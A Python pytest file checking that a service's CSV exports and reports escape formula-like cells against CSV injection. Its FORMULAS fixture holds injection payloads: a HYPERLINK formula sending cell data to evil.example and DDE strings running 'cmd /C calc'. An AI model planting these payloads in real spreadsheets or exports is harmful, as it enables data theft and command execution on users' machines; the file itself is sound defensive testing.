"""Every CSV the service writes shows formula-like text as text (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from graph_service.auth import Principal, Role
from graph_service.domain import Relation
from graph_service.reports import IsolationRow, ReportFormat, render
from graph_service.services import Services
from graph_service.spreadsheet import safe_cell, safe_row
from graph_service.store import Store
from loaders.export import export_csv

BOSS = Principal(Role.COORDINATOR, subject="coordinator:test")
FORMULAS = [
    '=HYPERLINK("http://evil.example/"&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS, ids=["equals", "plus", "at", "minus", "tab", "cr"])
def test_formulas_become_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Aoife O'Hare", "Siân", "", "1+1=2", "Mary-Kate"], ids=str)
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_are_left_alone() -> None:
    assert safe_row([-3, 2.5, "=x"]) == [-3, 2.5, "'=x"]


async def test_csv_export_files(store: Store, tmp_path: Path) -> None:
    services = Services.build(store)
    for name in FORMULAS[:4]:  # names cannot hold tabs or carriage returns
        made = await services.members.register(BOSS, name.strip(), None)
        assert made.value is not None, made.errors
        tie = await services.circles.add_supporter(
            BOSS, made.value.id, Relation.FAMILY, person_name=name
        )
        assert tie.errors == [], tie.errors
    await export_csv(store, tmp_path)
    for file in ("members.csv", "ties.csv"):
        with (tmp_path / file).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), file
        assert "'" + FORMULAS[0] in cells


def test_isolation_report_csv() -> None:
    rows = [IsolationRow("TWVtYmVyOjE=", name, 0, ["NO_SUPPORTERS"]) for name in FORMULAS[:4]]
    text = render(rows, ReportFormat.csv, console=None)  # type: ignore[arg-type]
    assert text is not None
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert "'" + FORMULAS[1] in cells
